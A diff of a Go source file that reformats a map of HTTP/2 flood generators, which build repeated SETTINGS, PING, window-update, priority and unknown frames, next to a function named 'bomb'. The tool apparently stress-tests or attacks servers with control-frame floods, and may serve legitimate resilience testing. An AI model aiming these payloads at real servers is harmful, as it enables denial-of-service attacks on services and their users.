@@ -79,13 +79,15 @@ func bomb(address string) []byte {
 }
 
 var floods = map[string]flood{
-	"SETTINGS":                  repeat(func(n int, _, _ string) []byte { return frame(frameSettings, 0, 0, setting(4, uint32(n))) }),
-	"empty SETTINGS":            repeat(func(int, string, string) []byte { return frame(frameSettings, 0, 0, nil) }),
-	"SETTINGS of the table":     repeat(func(n int, _, _ string) []byte { return frame(frameSettings, 0, 0, setting(1, uint32(n%2)<<30)) }),
-	"acknowledged SETTINGS":     repeat(func(int, string, string) []byte { return frame(frameSettings, flagAck, 0, nil) }),
-	"PING":                      repeat(func(int, string, string) []byte { return frame(framePing, 0, 0, make([]byte, 8)) }),
-	"window updates":            repeat(func(int, string, string) []byte { return frame(frameWindowUpdate, 0, 0, []byte{0, 0, 0, 1}) }),
-	"large window updates":      repeat(func(int, string, string) []byte { return frame(frameWindowUpdate, 0, 0, []byte{0x7f, 0xff, 0xff, 0xff}) }),
+	"SETTINGS":              repeat(func(n int, _, _ string) []byte { return frame(frameSettings, 0, 0, setting(4, uint32(n))) }),
+	"empty SETTINGS":        repeat(func(int, string, string) []byte { return frame(frameSettings, 0, 0, nil) }),
+	"SETTINGS of the table": repeat(func(n int, _, _ string) []byte { return frame(frameSettings, 0, 0, setting(1, uint32(n%2)<<30)) }),
+	"acknowledged SETTINGS": repeat(func(int, string, string) []byte { return frame(frameSettings, flagAck, 0, nil) }),
+	"PING":                  repeat(func(int, string, string) []byte { return frame(framePing, 0, 0, make([]byte, 8)) }),
+	"window updates":        repeat(func(int, string, string) []byte { return frame(frameWindowUpdate, 0, 0, []byte{0, 0, 0, 1}) }),
+	"large window updates": repeat(func(int, string, string) []byte {
+		return frame(frameWindowUpdate, 0, 0, []byte{0x7f, 0xff, 0xff, 0xff})
+	}),
 	"window updates of nothing": repeat(func(int, string, string) []byte { return frame(frameWindowUpdate, 0, 0, make([]byte, 4)) }),
 	"priorities":                repeat(func(n int, _, _ string) []byte { return frame(framePriority, 0, stream(n), []byte{0, 0, 0, 0, 1}) }),
 	"unknown frames":            repeat(func(int, string, string) []byte { return frame(200, 0, 0, make([]byte, 1000)) }),
